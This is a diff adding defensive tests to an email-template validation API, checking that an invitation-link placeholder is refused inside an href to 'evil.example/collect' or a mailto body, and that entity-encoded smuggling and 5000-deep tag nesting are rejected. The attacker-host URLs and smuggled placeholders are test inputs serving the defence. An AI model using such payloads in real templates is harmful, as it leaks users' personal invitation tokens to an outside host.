@@ -37,6 +37,26 @@ describe('the rules of a template', () => {
     expect(res.body.errors).toEqual([{ field: 'body', message: expect.stringContaining('{{invitationLink}}') }]);
   });
 
+  it('the personal link may stand only alone: inside another href or a mailto body it is refused, nothing is stored', async () => {
+    const before = (await h.api('GET', url('user_invitation'))).body;
+    for (const body of [
+      '<p>Click <a class="button" href="https://evil.example/collect?t={{invitationLink}}">here</a></p>',
+      '<p>{{invitationLink}} <a href="mailto:x@evil.example?body={{invitationLink}}">mail it</a></p>',
+    ]) {
+      const res = await put('user_invitation', { subject: 'Hi {{username}}', body });
+      expect(res.status).toBe(422);
+      expect(res.body.errors[0]).toMatchObject({ field: 'body', message: expect.stringContaining('may stand only alone') });
+    }
+    expect((await h.api('GET', url('user_invitation'))).body).toEqual(before);
+  });
+
+  it("the email log's link placeholder cannot be smuggled in with entities, and deep nesting is a 422, not a 500", async () => {
+    const smuggled = await put('user_invitation', { subject: 'Hi', body: '<p>{{invitationLink}} &#123;&#123;personal_link}}</p>' });
+    expect(smuggled.status).toBe(422);
+    const deep = await h.api('POST', url('user_invitation', 'en', '/preview'), { subject: 'x', body: `<p>{{invitationLink}}</p>${'<b>'.repeat(5000)}` });
+    expect(deep.status).toBe(422);
+  });
+
   it('an unknown variable, or the link variable of another type, is refused with 422 naming it', async () => {
     const unknown = await put('user_invitation', { subject: 'Hi {{firstName}}', body: '<p>{{invitationLink}} {{companyName}}</p>' });
     expect(unknown.status).toBe(422);
